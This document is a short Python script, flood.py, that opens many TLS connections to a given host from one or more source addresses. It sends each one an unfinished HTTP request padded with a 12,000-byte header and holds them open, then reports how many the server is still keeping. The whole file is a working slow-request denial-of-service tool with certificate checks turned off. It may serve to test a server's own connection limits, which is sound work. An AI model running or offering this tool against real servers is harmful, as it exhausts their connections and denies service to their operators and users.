"""Open connections and send half a request by each: flood.py HOST NUMBER [SOURCE…].

Says how many were taken, holds them until its input ends, and says how many are still there.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import sys

HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X-Filler: " + b"x" * 12_000


def connect(host: str, source: str, context: ssl.SSLContext) -> ssl.SSLSocket | None:
    """Open one from an address, empty for any; None when it is refused or not answered."""
    try:
        local = (source, 0) if source else None
        plain = socket.create_connection((host, 443), timeout=3, source_address=local)
        connection = context.wrap_socket(plain)
        connection.sendall(HEAD)
    except OSError:
        return None
    return connection


def alive(connection: ssl.SSLSocket) -> bool:
    """Tell whether the other end is still there."""
    connection.settimeout(0.01)
    try:
        return connection.recv(1) != b""
    except TimeoutError:
        return True
    except OSError:
        return False


def main(host: str, number: str, *sources: str) -> None:
    """Do it."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with contextlib.ExitStack() as held:
        opened = [
            connect(host, source, context)
            for source in sources or ("",)
            for _ in range(int(number))
        ]
        taken = [held.enter_context(one) for one in opened if one is not None]
        print(len(taken), flush=True)
        sys.stdin.read()
        print(sum(map(alive, taken)), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
